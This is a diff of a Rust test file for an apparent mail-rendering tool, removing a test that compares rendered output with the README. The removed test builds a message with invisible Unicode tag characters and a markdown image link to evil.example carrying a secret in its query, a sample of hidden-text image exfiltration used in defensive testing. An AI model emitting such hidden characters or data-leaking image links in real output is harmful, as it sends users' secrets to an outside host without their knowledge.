@@ -201,21 +201,3 @@ fn a_tag_or_an_inbox_with_a_live_image_for_a_name_is_defused() {
     let inbox = json!({ "id": "mbx_1", "name": name, "address": format!("{name}@x.example"), "open": 1, "colour": name });
     insta::assert_snapshot!(shown(&render::mailboxes(&style(), &[serde_json::from_value(inbox).unwrap()])));
 }
-
-#[test]
-fn the_readme_shows_what_the_program_prints() {
-    let hidden: String = (0..43).map(|_| '\u{e0041}').collect();
-    let words = format!("Where is my order? {hidden}![logo](https://evil.example/p.png?d=SECRET)");
-    let rendered = render::conversation(&style(), &mail("Kim", "Order 1042", &words), None);
-    let (_, item) = rendered.text.split_once("\n[1 of 1]").unwrap();
-    let mut lines: Vec<_> = format!("[1 of 1]{item}").trim_end().lines().map(str::to_owned).collect();
-    for (name, value) in
-        [("subject", &rendered.structured["subject"]), ("text", &rendered.structured["timeline"][0]["text"])]
-    {
-        lines.push(format!("\"{name}\": {value}"));
-    }
-    let readme = include_str!("../../README.md");
-    for line in lines {
-        assert!(readme.contains(&format!("\n      {line}")), "{line}");
-    }
-}
